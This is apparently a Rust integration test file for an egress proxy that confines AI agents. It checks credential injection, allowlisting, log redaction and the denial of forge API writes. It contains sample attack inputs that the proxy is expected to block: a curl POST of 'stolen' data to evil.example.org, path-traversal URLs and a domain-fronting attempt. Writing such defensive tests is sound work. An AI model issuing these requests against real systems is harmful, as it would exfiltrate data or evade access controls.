//! Tests which requests the proxy forwards, which requests it denies, and what the client receives. The client is curl,
//! because the tools of agents also use curl.

use bottle_policy::decide::Reason;
use bottle_protocol::session::bundle::LogLevel;
use bottle_test_support::upstream::Site;

use super::fixture::{AUTH, FixtureOptions, ProxyFixture, REAL, SITE};

const URL: &str = "https://api.example.com/v1/models?limit=2";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn injects_the_real_credential_and_strips_the_agents() {
    let proxy = ProxyFixture::open().await;
    for version in ["--http1.1", "--http2"] {
        let headers = ["-H", "Authorization: Bearer placeholder", "-H", "Cookie: a=b", "-H", "X-Kept: 1"];
        let answer = proxy.curl(&[&[version, URL][..], &headers].concat()).await;
        assert_eq!(answer.status(), 200);
        let seen = proxy.site.visits().pop().expect("a visit");
        assert_eq!(seen.header("authorization"), Some(format!("Bearer {REAL}").as_str()));
        assert_eq!((seen.header("cookie"), seen.header("x-kept")), (None, Some("1")));
        assert_eq!((seen.host.as_str(), seen.path.as_str()), (SITE, "/v1/models?limit=2"));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn explicit_and_transparent_proxy_decide_alike() {
    let proxy = ProxyFixture::open().await;
    assert_eq!(proxy.curl_transparent(&[URL]).await.status(), 200);
    let response = proxy.curl_transparent(&["http://api.example.com/"]).await;
    assert_eq!(
        (response.status(), response.header("x-bottle-reason")),
        (403, Some("port-not-allowed".into()))
    );
    let response = proxy.curl(&["http://api.example.com/"]).await;
    assert_eq!(
        (response.status(), response.header("x-bottle-reason")),
        (403, Some("port-not-allowed".into()))
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_denial_has_the_same_id_in_the_response_and_for_the_keeper() {
    let proxy = ProxyFixture::open().await;
    let answer = proxy.curl(&["-X", "POST", "-d", "stolen", "https://evil.example.org/drop?x=1"]).await;
    assert_eq!(answer.status(), 403);
    assert!(answer.text().starts_with("HTTP/1.1 200"), "CONNECT is answered 200");
    let body = answer.json();
    let denial = proxy.denial().await;
    assert_eq!(body["reason"], "host-not-allowed");
    assert_eq!(body["id"], denial.id.as_str());
    assert_eq!(denial.reason, Reason::HostNotAllowed);
    assert_eq!((denial.host.as_str(), denial.port), ("evil.example.org", 443));
    assert_eq!((denial.method.as_str(), denial.path.as_str()), ("POST", "/drop"));
    assert!(proxy.site.visits().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn denies_requests_whose_host_names_disagree() {
    let proxy = ProxyFixture::open().await;
    let answer = proxy.curl(&["-H", "Host: other.example.com", URL]).await;
    assert_eq!(answer.header("x-bottle-reason").as_deref(), Some("authority-mismatch"));
    let connect_to = format!("{SITE}:443:evil.example.org:443");
    let fronted = proxy.curl(&["--connect-to", &connect_to, URL]).await;
    assert_eq!(fronted.header("x-bottle-reason").as_deref(), Some("authority-mismatch"));
    assert!(proxy.site.visits().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forwards_the_path_that_was_decided_on() {
    let matches = "matches: [{paths: [{type: prefix, value: /v1}], methods: [GET]}]";
    let proxy = ProxyFixture::with(FixtureOptions { route: matches, ..FixtureOptions::default() }).await;
    let get = |path: &str| vec!["--path-as-is".to_owned(), format!("https://{SITE}{path}")];
    for (path, reason) in [
        ("/v1/../admin", "request-not-allowed"),
        ("/v1/%2e%2e/admin", "request-not-allowed"),
        ("/v1%2f..%2fadmin", "path-ambiguous"),
        ("/v10", "request-not-allowed"),
    ] {
        let arguments = get(path);
        let answer = proxy.curl(&arguments.iter().map(String::as_str).collect::<Vec<_>>()).await;
        assert_eq!(answer.header("x-bottle-reason").as_deref(), Some(reason), "{path}");
    }
    let arguments = get("/x/../v1/%61");
    let answer = proxy.curl(&arguments.iter().map(String::as_str).collect::<Vec<_>>()).await;
    assert_eq!(answer.status(), 200);
    assert_eq!(proxy.site.visits().pop().expect("a visit").path, "/v1/a");
    assert_eq!(proxy.site.visits().len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connection_header_removes_no_decided_or_injected_header() {
    let matches = "matches: [{headers: [{name: x-env, value: dev}]}]";
    let proxy = ProxyFixture::with(FixtureOptions { route: matches, ..FixtureOptions::default() }).await;
    let answer = proxy.curl(&["--http1.1", "-H", "X-Env: dev", "-H", "Connection: x-env", URL]).await;
    assert_eq!(answer.header("x-bottle-reason").as_deref(), Some("request-not-allowed"));
    assert!(proxy.site.visits().is_empty());
    let proxy = ProxyFixture::with(FixtureOptions { route: AUTH, ..FixtureOptions::default() }).await;
    assert_eq!(proxy.curl(&["--http1.1", "-H", "Connection: authorization", URL]).await.status(), 200);
    let visit = proxy.site.visits().pop().expect("a visit");
    assert!(visit.header("authorization").is_some_and(|value| value.contains(REAL)));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forwards_plain_http_on_port_80_if_the_route_allows_it() {
    let site = Site { tls: false, ..Site::named(&[SITE]) };
    let proxy =
        ProxyFixture::with(FixtureOptions { site, route: "ports: [80]", ..FixtureOptions::default() }).await;
    for answer in [
        proxy.curl(&["http://api.example.com/a"]).await,
        proxy.curl_transparent(&["http://api.example.com/a"]).await,
        proxy.curl(&["--proxytunnel", "http://api.example.com/a"]).await,
    ] {
        assert_eq!(answer.status(), 200);
    }
    assert_eq!(proxy.site.visits().len(), 3);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lists_its_routes() {
    let proxy = ProxyFixture::open().await;
    let answer = proxy.curl(&["http://_egress.local/allowlist"]).await;
    assert_eq!(answer.status(), 200);
    let body = answer.json();
    assert_eq!(body["revision"], 1);
    let shown = serde_json::json!([{"host": SITE, "auth": {"scheme": "Bearer"}}]);
    assert_eq!(body["routes"], shown);
    assert_eq!(proxy.curl(&["http://_egress.local/other"]).await.status(), 404);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn full_log_omits_the_credential() {
    let route =
        "auth: {scheme: Bearer, slot: key}\n  dlp: {outbound_detectors: false, inbound_detectors: false}";
    let proxy =
        ProxyFixture::with(FixtureOptions { route, log: LogLevel::Full, ..FixtureOptions::default() }).await;
    let body_text = format!("leak {REAL} here");
    assert_eq!(proxy.curl(&["-d", &body_text, "-H", "X-Note: hello", URL]).await.status(), 200);
    let path = proxy.directory.path().join("egress.jsonl");
    let until = std::time::Instant::now() + std::time::Duration::from_secs(60);
    let line = loop {
        let text = std::fs::read_to_string(&path).expect("log");
        if let Some(line) = text.lines().next() {
            break line.to_owned();
        }
        assert!(std::time::Instant::now() < until, "no line was written");
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    };
    assert!(!line.contains(REAL), "{line}");
    let line: serde_json::Value = serde_json::from_str(&line).expect("a JSON line");
    assert_eq!((&line["verdict"], &line["status"]), (&"passed".into(), &200.into()));
    let request = line["request"].to_string();
    assert!(request.contains("hello") && request.contains("leak") && !request.contains("authorization"));
    // The fake site echoes the request, including the injected header.
    assert!(line["response"]["body"].as_str().expect("body").contains("api.example.com"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn denies_forge_api_writes_to_a_gated_repository() {
    let route = "matches: [{methods: [GET, POST, PUT]}, {methods: [PUT], paths: [{type: prefix, value: \
                 /repos/o/docs/contents}]}]";
    let more_routes = "forges: [example.com]\n";
    let proxy = ProxyFixture::with(FixtureOptions { route, more_routes, ..FixtureOptions::default() }).await;
    let passing = |path: &str| matches!(path, "/repos/o/r/issues" | "/repos/o/docs/contents/a");
    for version in ["--http1.1", "--http2"] {
        for (method, path) in [
            ("PUT", "/repos/o/r/contents/a"),
            ("POST", "/repos/o/r/git/refs"),
            ("POST", "/repos/o/r/merges"),
            ("PUT", "/repos/o/r/pulls/1/merge"),
            ("POST", "/repos/o/r/releases"),
            ("POST", "/graphql"),
        ] {
            let url = format!("https://{SITE}{path}");
            let answer = proxy.curl(&[version, "-X", method, "-d", "{}", &url]).await;
            assert_eq!(answer.header("x-bottle-reason").as_deref(), Some("use-git-gate"), "{method} {path}");
            assert!(answer.json()["sentence"].as_str().is_some_and(|text| text.contains("Push instead")));
            assert_eq!(proxy.denial().await.reason, Reason::UseGitGate);
        }
        assert!(
            proxy.site.visits().iter().all(|visit| visit.method == "GET" || passing(&visit.path)),
            "{version}"
        );
        for (method, path) in [
            ("GET", "/repos/o/r/contents/a"),
            ("POST", "/repos/o/r/issues"),
            ("PUT", "/repos/o/docs/contents/a"),
        ] {
            let answer = proxy.curl(&[version, "-X", method, &format!("https://{SITE}{path}")]).await;
            assert_eq!(answer.status(), 200, "{method} {path}");
            assert_eq!(proxy.site.visits().pop().expect("a visit").path, path);
        }
    }
}
